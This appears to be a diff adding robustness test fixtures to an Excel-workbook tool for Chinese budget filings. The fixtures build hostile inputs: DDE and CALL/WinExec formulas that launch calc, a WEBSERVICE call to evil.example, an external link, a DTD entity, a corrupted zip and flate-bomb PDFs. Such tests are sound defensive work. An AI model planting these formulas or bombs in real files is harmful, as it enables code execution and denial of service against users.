@@ -13,6 +13,7 @@ from pathlib import Path
 import openpyxl
 
 from xl_tools.jsonio import load_json
+from xl_tools.schema import PROJECT_HEADERS
 from xl_tools.workbook import build_workbook
 
 ROOT = Path(__file__).resolve().parents[2]
@@ -252,3 +253,230 @@ def too_long_cell_book(folder: Path) -> Path:
         xml = zf.read("xl/sharedStrings.xml").decode("utf-8")
     xml = xml.replace(target, "很长的目标。" * 6000, 1)
     return _replace_member(src, folder / "too_long.xlsx", "xl/sharedStrings.xml", xml.encode("utf-8"))
+
+
+# --- round two (issue 14): parts, state, links, limits ----------------------------------------------
+
+def with_part(folder: Path, name: str, part: str, change) -> Path:
+    """The seed workbook with one part's bytes replaced by ``change(bytes)``."""
+    src = seed_book(folder, "base_" + name)
+    with zipfile.ZipFile(src) as zf:
+        data = zf.read(part)
+    return _replace_member(src, folder / name, part, change(data))
+
+
+def xml_parts(folder: Path) -> list[str]:
+    """Every XML part of the seed workbook (what the fuzz and the damaged-part tests go through)."""
+    with zipfile.ZipFile(seed_book(folder, "parts.xlsx")) as zf:
+        return [n for n in zf.namelist() if n.endswith((".xml", ".rels"))]
+
+
+def with_doctype(data: bytes) -> bytes:
+    """An internal DTD with an entity declaration put before the root element."""
+    decl, _, body = data.partition(b"?>") if data.startswith(b"<?xml") else (b"", b"", data)
+    head = decl + b"?>" if decl else b""
+    return head + b'<!DOCTYPE x [<!ENTITY e "boom">]>' + body
+
+
+def cut_in_half(data: bytes) -> bytes:
+    return data[: len(data) // 2]
+
+
+def unknown_compression(folder: Path, part: str = "xl/sharedStrings.xml") -> Path:
+    """A zip whose member claims compression method 99 (nothing zipfile or Excel knows)."""
+    src = seed_book(folder, "method_base.xlsx")
+    data = bytearray(src.read_bytes())
+    with zipfile.ZipFile(src) as zf:
+        offset = zf.getinfo(part).header_offset
+    data[offset + 8:offset + 10] = (99).to_bytes(2, "little")            # the local header
+    pos = 0
+    while (pos := data.find(b"PK\x01\x02", pos)) >= 0:                    # its central directory entry
+        size = int.from_bytes(data[pos + 28:pos + 30], "little")
+        if bytes(data[pos + 46:pos + 46 + size]) == part.encode():
+            data[pos + 10:pos + 12] = (99).to_bytes(2, "little")
+        pos += 4
+    path = folder / "method99.xlsx"
+    path.write_bytes(bytes(data))
+    return path
+
+
+def dde_defined_name(folder: Path) -> Path:
+    """Defined names that are DDE and external links, including one the reader looks up (预算年度)."""
+    def change(xml: bytes) -> bytes:
+        extra = ("<definedName name=\"dde\">cmd|'/c calc'!A0</definedName>"
+                 "<definedName name=\"ext\">[1]Sheet1!$A$1</definedName>"
+                 "<definedName name=\"_xlnm.Print_Area\" localSheetId=\"0\">cmd|'/c calc'!A0</definedName>")
+        xml = xml.replace("<definedName name=\"预算年度\">".encode(), "<definedName name=\"预算年度\">cmd|'/c calc'!A0"
+                          "</definedName><definedName name=\"旧预算年度\">".encode())
+        return xml.replace(b"</definedNames>", extra.encode() + b"</definedNames>")
+    return with_part(folder, "dde_name.xlsx", "xl/workbook.xml", change)
+
+
+def huge_money(folder: Path) -> Path:
+    """1.6e26 in a money cell: beyond what two-decimal Decimal arithmetic can hold."""
+    def edit(wb):
+        wb["项目"]["D2"] = 1.6e26
+        wb["项目"]["E3"] = "99999999999999999999999999999.99"
+    return _edit(folder, "huge_money.xlsx", edit)
+
+
+LIVE_LINKS = {"H2": "=cmd|' /C calc'!A0", "D3": "=[1]Sheet1!D3", "H4": '=WEBSERVICE("http://evil.example/x")'}
+
+
+def live_links(folder: Path) -> Path:
+    """DDE, external-reference and web formulas typed into a filing's cells (as formulas)."""
+    def edit(wb):
+        for ref, formula in LIVE_LINKS.items():
+            wb["项目"][ref] = formula
+    return _edit(folder, "live_links.xlsx", edit)
+
+
+def refreshed_seed(folder: Path, name: str = "refreshed.xlsx") -> Path:
+    from xl_tools.refresh.file_writer import refresh_file
+    path = seed_book(folder, name)
+    refresh_file(path, now="2026-01-05 09:00")
+    return path
+
+
+def tampered_state(folder: Path, rows: list[list], name: str = "tampered.xlsx") -> Path:
+    """A refreshed seed with ``rows`` appended to its hidden state sheet."""
+    path = refreshed_seed(folder, name)
+    wb = openpyxl.load_workbook(path)
+    for row in rows:
+        wb["_xltools"].append(row)
+    wb.save(path)
+    return path
+
+
+def summary_name_on_a_header(folder: Path) -> Path:
+    """The 上次刷新 name moved onto the header 项目!A1 (the tool must not write its summary there)."""
+    def edit(wb):
+        wb.defined_names["上次刷新"].attr_text = "'项目'!$A$1"
+    return _edit(folder, "summary_on_header.xlsx", edit)
+
+
+def renamed_after_refresh(folder: Path) -> Path:
+    """Refreshed, then 项目 and 绩效指标 renamed with a trailing space (the state names the old ones)."""
+    path = refreshed_seed(folder, "renamed.xlsx")
+    wb = openpyxl.load_workbook(path)
+    wb["项目"]["D2"] = 1                      # an error, so the state records a highlight there
+    wb.save(path)
+    from xl_tools.refresh.file_writer import refresh_file
+    refresh_file(path)
+    wb = openpyxl.load_workbook(path)
+    wb["项目"].title = "项目 "
+    wb["绩效指标"].title = "绩效指标 "
+    wb.save(path)
+    return path
+
+
+def tall_sheet(folder: Path, rows: int = 1_048_576) -> Path:
+    """The seed with 项目 replaced by a sheet of ``rows`` rows that each hold a value (written straight
+    into the zip as XML: openpyxl would need minutes)."""
+    src = seed_book(folder, "tall_base.xlsx")
+    dst = folder / "tall.xlsx"
+    head = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+            '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
+            '<row r="1">' + "".join(f'<c r="{chr(65 + k)}1" t="inlineStr"><is><t>{h}</t></is></c>'
+                                    for k, h in enumerate(PROJECT_HEADERS)) + '</row>')
+    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zout:
+        for item in zin.infolist():
+            if item.filename != "xl/worksheets/sheet3.xml":
+                zout.writestr(item, zin.read(item.filename))
+                continue
+            with zout.open("xl/worksheets/sheet3.xml", "w", force_zip64=True) as fh:
+                fh.write(head.encode())
+                chunk = []
+                for r in range(2, rows + 1):
+                    chunk.append(f'<row r="{r}"><c r="A{r}"><v>{r - 1}</v></c><c r="E{r}"><v>1</v></c></row>')
+                    if len(chunk) == 20_000:
+                        fh.write("".join(chunk).encode())
+                        chunk = []
+                fh.write(("".join(chunk) + "</sheetData></worksheet>").encode())
+    return dst
+
+
+def long_indicators_json(chars: int = 40_000) -> dict:
+    """A filing whose second project has more than ``chars`` characters of indicators."""
+    import json
+    data = json.loads(SEED_JSON.read_text("utf-8"))
+    project = data["projects"][1]
+    first = project["indicators"][0]
+    count = chars // 60 + 1
+    project["indicators"] = [dict(first, no=k + 1, name=f"第{k + 1}项设备的购置与安装调试验收完成情况") for k in range(count)]
+    return data
+
+
+def amounts_text(value: str) -> str:
+    """The bundled published text with the first project's amounts line replaced by ``value``."""
+    text = SEED_TXT.read_text("utf-8")
+    assert "600.00 600.00" in text
+    return text.replace("600.00 600.00", value, 1)
+
+
+SEED_TXT = ROOT / "xl_tools" / "data" / "sample_2024.txt"
+
+
+def _pdf(objects: list[bytes]) -> bytes:
+    """A PDF file from its numbered objects (1-based), with a correct cross-reference table."""
+    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
+    offsets = []
+    for k, body in enumerate(objects, start=1):
+        offsets.append(len(out))
+        out += f"{k} 0 obj\n".encode() + body + b"\nendobj\n"
+    xref = len(out)
+    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
+    out += b"".join(f"{o:010d} 00000 n \n".encode() for o in offsets)
+    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
+    return bytes(out)
+
+
+def _stream(data: bytes, extra: bytes = b"") -> bytes:
+    return b"<< /Length %d /Filter /FlateDecode %s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"
+
+
+def flate_bomb_pdf(folder: Path, megabytes: int = 64, double: bool = False) -> Path:
+    """A one-page PDF whose content stream inflates to ``megabytes`` MB of spaces (once more when
+    ``double``: the stream is compressed twice, /Filter [/FlateDecode /FlateDecode])."""
+    import zlib
+    comp = zlib.compressobj(9)
+    inner = b"".join(comp.compress(b" " * 2**20) for _ in range(megabytes)) + comp.flush()
+    data = zlib.compress(inner, 9) if double else inner
+    content = (b"<< /Length %d /Filter [/FlateDecode /FlateDecode] >>\nstream\n" % len(data) + data + b"\nendstream"
+               if double else _stream(data))
+    pdf = _pdf([b"<< /Type /Catalog /Pages 2 0 R >>",
+                b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
+                content])
+    path = folder / ("double_bomb.pdf" if double else "bomb.pdf")
+    path.write_bytes(pdf)
+    return path
+
+
+def many_pages_pdf(folder: Path, pages: int) -> Path:
+    kids = " ".join(f"{3 + k} 0 R" for k in range(pages))
+    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", f"<< /Type /Pages /Kids [{kids}] /Count {pages} >>".encode()]
+    objects += [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"] * pages
+    path = folder / "pages.pdf"
+    path.write_bytes(_pdf(objects))
+    return path
+
+
+FORMULA_NAMES = ["=HYPERLINK(\"#'项目'!A1\",\"x\")&CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)",
+                 "=cmd|' /C calc'!A0", "=[1]Sheet1!A1"]
+
+
+def formula_named_projects() -> dict:
+    """A filing whose project names (and one unit) look like formulas, internal links included."""
+    import json
+    data = json.loads(SEED_JSON.read_text("utf-8"))
+    for p, name in zip(data["projects"], FORMULA_NAMES):
+        p["name"] = name
+        p["total"] = "1.00"                  # an error on the project: its name goes into 校验结果
+    return data
+
+
+def spread_positions(count: int, length: int, rnd) -> list[int]:
+    """``count`` positions in ``range(length)``, one in each of ``count`` equal strata: spread evenly
+    over the input (a fuzz that draws positions freely clusters them at a few places)."""
+    return [min(length - 1, int((k + rnd.random()) * length / count)) for k in range(count)]
